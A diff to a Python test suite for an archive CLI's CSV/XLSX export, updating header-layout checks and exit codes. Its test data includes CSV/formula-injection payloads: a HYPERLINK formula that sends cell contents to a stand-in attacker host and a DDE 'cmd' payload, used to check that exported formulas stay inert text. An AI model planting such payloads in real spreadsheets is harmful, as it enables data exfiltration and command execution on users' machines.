@@ -11,6 +11,7 @@ from click.testing import CliRunner
 
 from pipeline.archive import Archive
 from pipeline.archive.export import SHEETS
+from pipeline.archive.xlsx import header as xlsx_header
 from pipeline.cli import cli
 from pipeline.models import Records
 
@@ -97,6 +98,11 @@ def test_export_csv_round_trips(db, tmp_path):
     assert len(expected["units"]) == 7 and len(expected["figures"]) == 3
 
 
+def iso_date(value):
+    """A real date in the workbook is the ISO date of the records."""
+    return value.date().isoformat() if hasattr(value, "date") and callable(value.date) else value
+
+
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
     "+cmd|' /C calc'!A0",
@@ -145,9 +151,12 @@ def test_export_xlsx_round_trips(db, tmp_path):
     expected = expected_rows(db)
     assert wb.sheetnames == list(SHEETS)
     for name, cols in SHEETS.items():
+        layout = xlsx_header(name, cols)
         rows = list(wb[name].iter_rows(values_only=True))
-        assert list(rows[0]) == cols
-        assert [dict(zip(cols, r)) for r in rows[1:]] == [{c: r.get(c) for c in cols} for r in expected[name]], name
+        assert list(rows[0]) == [title for title, _, _ in layout]
+        kept = [i for i, (_, _, group) in enumerate(layout) if group is None]  # label columns: test_archive_xlsx
+        got = [{layout[i][1]: iso_date(r[i]) for i in kept} for r in rows[1:]]
+        assert got == [{c: r.get(c) for c in cols} for r in expected[name]], name
     # text that looks like a formula stays text
     warnings = [r[2] for r in list(wb["warnings"].iter_rows(values_only=True))[1:]]
     assert "=1+1" in warnings
@@ -196,7 +205,7 @@ def test_figures_command(db):
     bad = invoke("archive", "figures", "--metric", "nonsense", "--db", str(db))
     assert bad.exit_code == 2 and "nonsense" in bad.output
     unknown = invoke("archive", "figures", "--unit", "Atlantis", "--db", str(db))
-    assert unknown.exit_code == 1 and "no unit in the archive matches 'Atlantis'" in unknown.output
+    assert unknown.exit_code == 2 and "no unit in the archive matches 'Atlantis'" in unknown.output
     assert "Traceback" not in unknown.output
 
 
@@ -219,7 +228,7 @@ def test_search_command(db):
 
 def test_missing_archive_is_one_line(tmp_path):
     result = invoke("archive", "units", "--db", str(tmp_path / "none.sqlite"))
-    assert result.exit_code == 1
+    assert result.exit_code == 2
     assert "no archive at" in result.output and "Traceback" not in result.output
 
 
